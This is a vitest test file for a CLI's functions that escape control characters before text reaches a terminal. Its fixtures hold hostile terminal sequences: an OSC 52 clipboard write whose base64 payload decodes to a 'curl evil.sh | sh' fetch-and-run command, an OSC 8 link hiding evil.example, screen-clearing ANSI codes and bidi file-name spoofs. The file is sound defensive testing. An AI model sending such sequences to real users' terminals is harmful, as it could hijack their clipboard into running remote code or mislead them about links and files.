/** What the CLI does to function-controlled text before a terminal sees it (gateway/cli/terminal-text.ts). */
import { describe, expect, it } from 'vitest';
import { PassThrough } from 'node:stream';
import { write } from '../../gateway/cli/command.ts';
import { escapeCell, escapeControls, escapeJsonControls, escapeJsonOrText } from '../../gateway/cli/terminal-text.ts';

/** OSC 52 (write the clipboard) and OSC 8 (a hyperlink whose text hides its target), as a hostile server or function would send them. */
const OSC52 = '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007';
const OSC8 = '\u001b]8;;https://evil.example/\u001b\\docs\u001b]8;;\u001b\\';

/** Anything a terminal would act on, other than tab and newline. */
const RAW_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

describe('escapeControls', () => {
  it('shows ANSI escapes, OSC title sequences, DEL and 8-bit CSI as \\x escapes', () => {
    const hostile = '\u001b[2J\u001b[H\u001b]0;pwned\u0007red \u001b[31mtext\u001b[0m\u009b6n\u007f\u0000';
    const shown = escapeControls(hostile);
    expect(shown).toBe('\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07red \\x1b[31mtext\\x1b[0m\\x9b6n\\x7f\\x00');
    expect(shown).not.toMatch(RAW_CONTROL);
  });

  it('keeps tabs, newlines and CRLF, escapes a lone CR that would overwrite the line', () => {
    expect(escapeControls('a\tb\nc\r\nd')).toBe('a\tb\nc\r\nd');
    expect(escapeControls('all good\rFAKE')).toBe('all good\\x0dFAKE');
    expect(escapeControls('end\r')).toBe('end\\x0d');
  });

  it('escapes bidi overrides and isolates, leaves other text (accents, emoji, RTL letters) alone', () => {
    expect(escapeControls('file\u202egnp.exe \u2066x\u2069')).toBe('file\\u202egnp.exe \\u2066x\\u2069');
    const plain = 'héllo ✓ 😀 שלום \\x1b already escaped';
    expect(escapeControls(plain)).toBe(plain);
  });

  it('shows OSC 52 clipboard writes and OSC 8 links as text', () => {
    expect(escapeControls(OSC52)).toBe('\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07');
    expect(escapeControls(OSC8)).toBe('\\x1b]8;;https://evil.example/\\x1b\\docs\\x1b]8;;\\x1b\\');
    expect(escapeControls('\u009d8;;x\u009c')).toBe('\\x9d8;;x\\x9c'); // 8-bit OSC and ST
  });

  it('leaves no raw control character in any input', () => {
    let all = '';
    for (let c = 0; c < 0x2100; c++) all += String.fromCharCode(c);
    expect(escapeControls(all)).not.toMatch(RAW_CONTROL);
  });
});

describe('escapeJsonControls', () => {
  it('\\u-escapes what JSON.stringify leaves raw, keeping the JSON valid and its value the same', () => {
    const value = { log: 'x\u009b31m\u007f\u202e', nested: ['\u001b[0m', 'ok'] };
    const json = JSON.stringify(value, null, 2);
    expect(json).toMatch(RAW_CONTROL); // C1, DEL and bidi marks pass JSON.stringify raw
    const shown = escapeJsonControls(json);
    expect(shown).not.toMatch(RAW_CONTROL);
    expect(JSON.parse(shown)).toEqual(value);
    expect(shown.split('\n')).toHaveLength(json.split('\n').length);
  });
});

describe('escapeJsonOrText', () => {
  it('keeps JSON valid with the same value (a lone CR between tokens becomes a space), other text as escapeControls', () => {
    const json = `{"a":\r"${'\u009b'}2J",\r\n"b":1}`;
    const shown = escapeJsonOrText(json);
    expect(shown.replace(/\r\n/g, '\n')).not.toMatch(RAW_CONTROL); // CRLF stays: it moves to the next line
    expect(JSON.parse(shown)).toEqual(JSON.parse(json));
    expect(escapeJsonOrText(`not json ${OSC52}`)).toBe(`not json ${escapeControls(OSC52)}`);
  });
});

describe('escapeCell', () => {
  it('also shows tab, newline and CR, so a table cell cannot add rows or columns', () => {
    expect(escapeCell('a\tb\nc\r\nd\re')).toBe('a\\tb\\nc\\r\\nd\\re');
    expect(escapeCell(`x${OSC8}`)).toBe(`x${escapeControls(OSC8)}`);
    expect(escapeCell('\u2067rtl\u2069')).toBe('\\u2067rtl\\u2069');
  });
});

describe('write', () => {
  it('is the one way commands print, and never lets a control sequence through', () => {
    const out = new PassThrough();
    let text = '';
    out.on('data', (chunk: Buffer) => (text += chunk.toString()));
    write(out, `deployed ${OSC52}evil\u001b[2J version 1`);
    write(out, 'already \\x1b escaped\n');
    expect(text).toBe(`deployed ${escapeControls(OSC52)}evil\\x1b[2J version 1\nalready \\x1b escaped\n`);
    expect(text).not.toMatch(RAW_CONTROL);
  });
});
